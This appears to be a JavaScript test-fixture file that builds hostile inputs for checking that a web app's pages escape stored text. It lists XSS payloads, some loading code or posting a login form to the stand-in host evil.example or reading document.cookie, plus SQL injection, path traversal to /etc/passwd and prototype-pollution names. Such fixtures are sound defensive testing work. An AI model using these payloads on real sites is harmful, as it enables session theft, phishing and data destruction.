/** What people put into names and payloads who mean no good. Each that runs calls `ran`, which the stage overhears. */
const SEEDS = [
  '<script>ran(1)</script>',
  '<ScRiPt src=//evil.example/x.js></sCrIpT>',
  '<script>alert(document.cookie)</script>',
  '<img src=x onerror=ran(2)>',
  '<img src="https://evil.example/pixel.png">',
  '<svg onload=ran(3)>',
  '<svg><script>ran(4)</script></svg>',
  '<svg><animate onbegin=ran(5) attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:ran(6)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src onerror=ran(7)>',
  '<iframe srcdoc="<script>parent.ran(8)</script>"></iframe>',
  '<iframe src=javascript:parent.ran(9)>',
  '<object data=javascript:ran(10)>',
  '<embed src=//evil.example/e.swf>',
  '<details open ontoggle=ran(11)>',
  '<input autofocus onfocus=ran(12)>',
  '<body onload=ran(13)>',
  '<base href=//evil.example/>',
  '<meta http-equiv=refresh content="0;url=javascript:ran(14)">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"; *{display:none}</style>',
  '<form action=//evil.example><button>Log in</button></form>',
  '<a href="javascript:ran(15)">click</a>',
  'javascript:ran(16)',
  'JaVaScRiPt&colon;ran(17)',
  'data:text/html,<script>ran(18)</script>',
  '//evil.example/#/jobs',
  '" onmouseover="ran(19)" x="',
  "' autofocus onfocus='ran(20)",
  '{{constructor.constructor("ran(21)")()}}',
  '${ran(22)} #{ran(23)} <%= ran(24) %> `${ran(25)}`',
  '\u202egnp.exe\u202c \u2066left\u2069 \u200bhidden\ufeff',
  '__proto__',
  'constructor',
  'null',
  'undefined',
  '[object Object]',
  "Robert'); DROP TABLE jobs;--",
  '../../../etc/passwd?x=1&y=2#z%00%2e%2e',
  `${'x'.repeat(4096)}<script>ran(26)</script>`,
];

/** What would close a tag, an attribute, a script or a template around it. */
const WRAPS = [
  (seed) => seed,
  (seed) => `">${seed}`,
  (seed) => `'/></title></textarea></script>-->${seed}<!--`,
  (seed) => `{{${seed}}}`,
  (seed) => `\\"\\u003c${seed}&lt;`,
];

export const TEXTS = SEEDS.flatMap((seed) => WRAPS.map((wrap) => wrap(seed)));

/** Queues may be called these: letters, digits, `.`, `_` and `-`. */
export const QUEUES = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  '0',
  '-1',
  '...',
  'a.b-c_d',
  'javascript',
  'q'.repeat(255),
];

/** As the pages write stored text: what cannot be seen is spelt out. */
export function shown(text) {
  const spelt = (unseen) => '\\u' + unseen.charCodeAt(0).toString(16).padStart(4, '0');
  return text.replace(/[\p{Cc}\p{Cf}\u2028\u2029]/gu, (unseen) => (/[\t\n]/.test(unseen) ? unseen : spelt(unseen)));
}
